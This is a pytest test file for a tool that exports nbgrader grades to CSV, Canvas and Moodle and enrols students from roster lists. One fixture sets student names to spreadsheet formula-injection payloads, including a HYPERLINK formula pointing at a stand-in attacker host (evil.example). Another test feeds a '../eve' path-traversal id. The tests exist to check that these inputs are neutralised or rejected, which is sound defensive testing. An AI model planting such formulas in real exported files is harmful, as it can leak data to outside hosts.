"""Points for nbgrader's table, Canvas and Moodle; students from a list; whom a roster lacks is told."""

import csv
import json
import subprocess
import sys
from datetime import datetime, timedelta

import pytest
from nbgrader.api import Gradebook

from tests.tools.instructor import ABSENT, NAMES, UNIT, UNITS, say

CANVAS = """\
Student,ID,SIS User ID,SIS Login ID,Section,Reading (55501),04_back_propagation (55504),Current Score
"    Points Possible",,,,,5.00,20.00,(read only)
"Müller, von, Ada",101,S-1,ada,"Learning, Mondays",5.00,,100
"Ó <b>Briain, Béla",102,S-2,bela,"Learning, Mondays",5.00,,100
"Cat, Renée",103,S-3,renee.cat,"Learning, Mondays",5.00,,100
"Stranger, Stella",999,S-9,stella,"Learning, Mondays",5.00,,100
"Student, Test",777,,0123456789abcdef,"Learning, Mondays",,,
"""
MOODLE = """\
First name,Last name,ID number,Institution,Email address,Assignment: 04_back_propagation (Real),Last downloaded
Ada,Müller,,,ADA@uni.example,-,1767225600
Béla,Briain,bela,,,-,1767225600
Renée,Cat,,,copy@uni.example,-,1767225600
"""


@pytest.fixture
def late(graded_folder):
    """A class in which ada was late and lost points, and emil's answer was read."""
    due = datetime(2026, 3, 1, 12)
    with Gradebook(f"sqlite:///{graded_folder / 'gradebook.db'}") as gradebook:
        gradebook.update_or_create_assignment(UNIT, duedate=due)
        gradebook.find_submission(UNIT, "ada").timestamp = due + timedelta(hours=3)
        for unit in UNITS:
            for book in gradebook.find_submission(unit, "ada").notebooks:
                book.late_submission_penalty = 2.5
        for book in gradebook.find_submission(UNITS[0], "dora").notebooks:
            book.late_submission_penalty = 1  # of no points at all
        answer = gradebook.find_grade("question_residual_layer", "back_propagation", UNIT, "emil")
        answer.manual_score, answer.extra_credit, answer.needs_manual_grade = 2, 0.25, False
        gradebook.db.commit()
    return graded_folder


def export(course, *words):
    result = say("export", *words, "--course", course)
    assert result.exit_code == 0, result.output
    return result


def rows(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def told(result):
    return " ".join(result.output.split())


def test_the_table_holds_the_numbers_that_nbgrader_exports(late):
    export(late, "--to", "csv")
    command = [sys.executable, "-W", "ignore", "-m", "nbgrader", "export", "--to", "theirs.csv"]
    subprocess.run(command, cwd=late, check=True, capture_output=True, timeout=300)
    theirs = list(csv.DictReader((late / "theirs.csv").open(encoding="utf-8")))
    ours = list(csv.DictReader((late / "grades-csv.csv").open(encoding="utf-8")))
    numbers = "raw_score", "late_submission_penalty", "score", "max_score"
    # nbgrader does not quote, so that a comma in a name shifts its columns: whoever has one is compared by hand below
    theirs = {(line["assignment"], line["student_id"]): line for line in theirs if line["last_name"] != "Müller"}
    found = {(line["assignment"], line["student_id"]): line for line in ours}
    assert len(found) == len(ours) == len(UNITS) * (len(NAMES) + 1)
    assert set(theirs) < set(found)
    for key, line in theirs.items():
        assert [float(found[key][name]) for name in numbers] == [float(line[name]) for name in numbers]
        assert (found[key]["duedate"], found[key]["timestamp"]) == (line["duedate"], line["timestamp"])
    ada = found[UNIT, "ada"]
    assert ada["last_name"] == "Müller, von"
    assert (float(ada["raw_score"]), float(ada["late_submission_penalty"]), float(ada["score"])) == (17, 2.5, 14.5)
    assert found[UNITS[0], "dora"]["score"] == "0.0"


def test_canvas_without_a_roster(late):
    result = export(late, UNIT, "--to", "canvas")
    header, possible, *students = rows(late / "grades-canvas.csv")
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", UNIT]
    assert possible == ["    Points Possible", "", "", "", "", "20.00"]
    assert ["Müller, von, Ada", "101", "", "ada", "", "14.50"] in students
    assert ["Å, Emil", "105", "", "emil", "", "11.25"] in students
    assert ["Nobody, Zoë", "109", "", "zoe", "", ""] in students
    assert f"{UNIT}: nothing graded of 1 student (zoe)." in told(result)
    assert "wait to be read (ada, bela, copy, hugo, ines, kofi)" in told(result)


def test_canvas_with_its_own_export_keeps_its_numbers_and_columns(late, tmp_path):
    roster = tmp_path / "canvas.csv"
    roster.write_text(CANVAS, encoding="utf-8-sig")
    result = export(late, UNIT, "--to", "canvas", "--roster", roster)
    header, possible, *students = rows(late / "grades-canvas.csv")
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "04_back_propagation (55504)"]
    assert possible[-1] == "20.00"
    assert students == [
        ["Müller, von, Ada", "101", "S-1", "ada", "Learning, Mondays", "14.50"],
        ["Ó <b>Briain, Béla", "102", "S-2", "bela", "Learning, Mondays", "17.00"],
        ["Cat, Renée", "103", "S-3", "renee.cat", "Learning, Mondays", "17.00"],
    ]
    text = told(result)
    assert "Stella Stranger (line 6 of the roster): not in the gradebook, left without points." in text
    for student in ("dora", "emil", "hugo", "ines", "kofi", ABSENT[0]):
        assert f"{student}: not in grades-canvas.csv: nobody in canvas.csv has this id or e-mail address." in text
    unmatched = {line[0]: line for line in rows(late / "grades-canvas-unmatched.csv")}
    assert unmatched["emil"] == [
        "emil", "Å", "Emil", "emil@uni.example", "11.25", "nobody in canvas.csv has this id or e-mail address",
    ]  # fmt: skip
    assert "Test" not in text


def test_nobody_is_dropped(late, tmp_path):
    roster = tmp_path / "canvas.csv"
    roster.write_text(CANVAS, encoding="utf-8")
    export(late, "--to", "canvas", "--roster", roster)
    there = {row[3] for row in rows(late / "grades-canvas.csv")[2:]}
    left = {row[0] for row in rows(late / "grades-canvas-unmatched.csv")[1:]}
    assert len(there) + len(left) == len(NAMES) + 1


def test_moodle_with_its_own_export_keeps_its_spelling(late, tmp_path):
    roster = tmp_path / "moodle.csv"
    roster.write_text(MOODLE, encoding="utf-8")
    export(late, UNIT, "--to", "moodle", "--roster", roster)
    assert rows(late / "grades-moodle.csv") == [
        ["First name", "Last name", "ID number", "Email address", "Assignment: 04_back_propagation (Real)"],
        ["Ada", "Müller", "", "ADA@uni.example", "14.50000"],
        ["Béla", "Briain", "bela", "", "17.00000"],
        ["Renée", "Cat", "", "copy@uni.example", "17.00000"],
    ]


def test_moodle_without_a_roster(late):
    export(late, UNIT, "--to", "moodle")
    header, *students = rows(late / "grades-moodle.csv")
    assert header == ["First name", "Last name", "Username", "Email address", UNIT]
    assert ["Zoë", "Nobody", "zoe", "zoe@uni.example", ""] in students


EVIL = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.fixture
def formulas(late):
    """A class in which students chose names that a spreadsheet would run."""
    with Gradebook(f"sqlite:///{late / 'gradebook.db'}") as gradebook:
        gradebook.update_or_create_student("ada", first_name=EVIL, last_name="+1+1")
        gradebook.update_or_create_student("emil", first_name="-2", last_name="@SUM(A1)", email="=1+1|x@uni.example")
        gradebook.update_or_create_student("hugo", first_name="\t=1", last_name="a;=1+1", email="-hugo+x@uni.example")
    return late


def test_no_cell_that_a_spreadsheet_would_run(formulas):
    for to in ("csv", "canvas", "moodle"):
        result = export(formulas, UNIT, "--to", to)
        for cell in (cell for row in rows(formulas / f"grades-{to}.csv") for cell in row):
            assert not cell.lstrip().startswith(("=", "+", "@")), (to, cell)
            assert not (cell.lstrip().startswith("-") and "(" in cell), (to, cell)
            assert ";=" not in cell
    names = {row[2]: row[:2] for row in rows(formulas / "grades-moodle.csv")}
    assert names["ada"] == [f"'{EVIL}", "'+1+1"]
    # what Moodle finds people by stays as it is, where nothing could be called by it
    assert {row[3] for row in rows(formulas / "grades-moodle.csv")} >= {"-hugo+x@uni.example", "'=1+1|x@uni.example"}
    assert "The id, number or address of 1 student (emil) is written with an apostrophe" in told(result)


def test_a_systems_own_export_comes_back_as_it_was_but_for_formulas(late, tmp_path):
    roster = tmp_path / "canvas.csv"
    text = "Student,ID,SIS User ID,SIS Login ID,Section\n"
    text += '"=""=1, Ada""",101,-S1,ada,"M, 1"\n"@SUM(1), Béla",102,+49 12,bela,M\n'
    roster.write_text(text, encoding="utf-8")
    export(late, UNIT, "--to", "canvas", "--roster", roster)
    assert [row[:5] for row in rows(late / "grades-canvas.csv")[2:]] == [
        ['="=1, Ada"', "101", "-S1", "ada", "M, 1"],  # as Canvas itself writes what begins with =
        ["'@SUM(1), Béla", "102", "+49 12", "bela", "M"],
    ]
    roster = tmp_path / "moodle.csv"
    roster.write_text("Vorname;Nachname;ID-Nummer;E-Mail-Adresse;Gruppe\n=1;Ö;-7;ada@uni.example;A\n", encoding="utf-8")
    export(late, UNIT, "--to", "moodle", "--roster", roster)
    header, line = rows(late / "grades-moodle.csv")
    assert header[:4] == ["Vorname", "Nachname", "ID-Nummer", "E-Mail-Adresse"]
    assert line == ["'=1", "Ö", "-7", "ada@uni.example", "14.50000"]


def test_the_summary_in_json_names_who_is_missing(late, tmp_path):
    roster = tmp_path / "moodle.csv"
    roster.write_text(MOODLE, encoding="utf-8")
    lines = export(late, UNIT, "--to", "moodle", "--roster", roster, "--json").stdout.splitlines()
    summary = json.loads(lines[-1])
    assert summary["event"] == "summary"
    assert set(summary["unmatched"]) == {"dora", "emil", "hugo", "ines", "kofi", "zoe"}


def test_a_second_export_without_mismatches_takes_the_old_list_away(late, tmp_path):
    roster = tmp_path / "moodle.csv"
    roster.write_text(MOODLE, encoding="utf-8")
    export(late, "--to", "moodle", "--roster", roster)
    assert (late / "grades-moodle-unmatched.csv").exists()
    export(late, "--to", "moodle")
    assert not (late / "grades-moodle-unmatched.csv").exists()


# students from a list


def gradebook_of(course):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        return {s.id: (s.first_name, s.last_name, s.email, s.lms_user_id) for s in gradebook.students}


@pytest.fixture
def empty(tmp_path):
    """A course without a gradebook."""
    (tmp_path / "nbgrader_config.py").write_text("c = get_config()\n")
    return tmp_path


def enrol(course, text, encoding="utf-8"):
    (course / "list.csv").write_text(text, encoding=encoding)
    return say("students", course / "list.csv", "--course", course)


def test_a_list_of_ones_own(empty):
    result = enrol(empty, "id,first_name,last_name,email\nada,Ada,Müller,ada@x\nbob,,,\n", "utf-8-sig")
    assert told(result) == f"{empty}: 2 new students, 0 known; they are known by their id."
    assert gradebook_of(empty) == {"ada": ("Ada", "Müller", "ada@x", None), "bob": (None, None, None, None)}
    result = enrol(empty, "id;email\nada;new@x\ncleo;c@x\n")
    assert "1 new student, 1 known" in told(result)
    assert gradebook_of(empty)["ada"] == ("Ada", "Müller", "new@x", None)


@pytest.mark.parametrize(
    ("again", "sentence"),
    [
        ("id,email\nADA,new@x\n", "line 2: 'ADA' has the id of 'ada'"),
        ("id,email\na.mueller,Ada@X\n", "line 2: 'a.mueller' has the e-mail address of 'ada'"),
    ],
)
def test_nobody_is_added_under_a_second_name(empty, again, sentence):
    enrol(empty, "id,email\nada,ada@x\n")
    result = enrol(empty, again)
    assert result.exit_code == 1
    assert sentence in told(result)
    assert list(gradebook_of(empty)) == ["ada"]


def test_canvas_and_moodle_exports_are_lists_too(empty):
    assert "5 new students" in told(enrol(empty, CANVAS.replace('"Student, Test"', "Tester")))
    assert gradebook_of(empty)["renee.cat"] == ("Renée", "Cat", None, "103")
    result = enrol(empty, "First name,Last name,Email address\nPia,Ö,pia@uni.example\n")
    assert told(result).endswith("they are known by their e-mail address.")
    assert gradebook_of(empty)["pia@uni.example"][:2] == ("Pia", "Ö")


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("", "is empty, expected a line with the columns' names"),
        ("id,email\n", "names no student: there is nothing under its first line."),
        ("name,group\nAda,1\n", "has no column that tells who somebody is, expected id or email"),
        ("id,email\nada,a@x\nbob,b@x\nAda,c@x\n", "'Ada' stands in lines 2 and 4: keep one of them."),
        ("id,email\nada,a@x\nbob,A@X\n", "'A@X' stands in lines 2 and 3: keep one of them."),
        ("id,email\nada\n", "line 2 has 1 cells, expected 2 as in its first line."),
        ("id,email\n,a@x\nbob,b@x\n", "line 2 has no id, and it is what students are known by."),
        ("id,email\n../eve,a@x\n", "line 2: '../eve' cannot be the name of a student's folder."),
        (f"id\n{'é' * 128}\n", "cannot be the name of a student's folder."),
        ("id,student_id\na,b\n", "has two columns for the same thing (id, student_id): keep one."),
        ('id,email\n"ada,a@x\n', "is no CSV that can be read"),
    ],
)
def test_a_list_that_does_not_serve_is_a_sentence_and_adds_nobody(empty, text, sentence):
    assert enrol(empty, "id\nfirst\n").exit_code == 0
    result = enrol(empty, text)
    assert result.exit_code == 1
    assert sentence in told(result)
    assert set(gradebook_of(empty)) == {"first"}


def test_a_list_in_another_encoding(empty):
    assert "is not UTF-8 text: save it as CSV in UTF-8" in told(enrol(empty, "id,last_name\na,Müller\n", "latin-1"))
    assert "1 new student" in told(enrol(empty, "id\tlast_name\na\tMüller\n", "utf-16"))  # Excel's "Unicode text"


# what goes wrong


@pytest.mark.parametrize(
    ("words", "status", "sentence"),
    [
        (["--to", "blackboard"], 2, "'blackboard' is not one of 'csv', 'canvas', 'moodle'"),
        (["07_more", "--to", "csv"], 2, "'07_more' is no assignment of this course"),
        (["--to", "csv", "--roster", "x.csv"], 1, "A roster is for canvas and moodle"),
        (["--to", "moodle", "--roster", "nowhere.csv"], 1, "nowhere.csv: there is no such file."),
    ],
)
def test_words_that_do_not_fit(graded, words, status, sentence):
    result = say("export", *words, "--course", graded)
    assert result.exit_code == status
    assert sentence in told(result)


def test_the_other_systems_export_is_refused(graded, tmp_path):
    (tmp_path / "canvas.csv").write_text(CANVAS, encoding="utf-8")
    result = say("export", "--to", "moodle", "--roster", tmp_path / "canvas.csv", "--course", graded)
    assert "is an export of Canvas: say --to canvas with it." in told(result)


def test_a_roster_of_another_class_writes_nothing(graded_folder, tmp_path):
    (tmp_path / "r.csv").write_text("id,email\nnobody,n@x\n")
    result = say("export", "--to", "canvas", "--roster", tmp_path / "r.csv", "--course", graded_folder)
    assert result.exit_code == 1
    assert "Nobody of" in told(result)
    assert not list(graded_folder.glob("grades-*"))


def test_a_file_that_cannot_be_written_is_a_sentence(graded_folder):
    (graded_folder / "in_the_way").write_text("")
    result = say("export", "--to", "csv", "--output", graded_folder / "in_the_way" / "g.csv", "--course", graded_folder)
    assert result.exit_code == 1
    assert "cannot be written" in told(result)


def test_a_course_without_a_gradebook(empty):
    result = say("export", "--to", "csv", "--course", empty)
    assert result.exit_code == 1
    assert "There is no gradebook" in told(result)
    assert not (empty / "gradebook.db").exists()
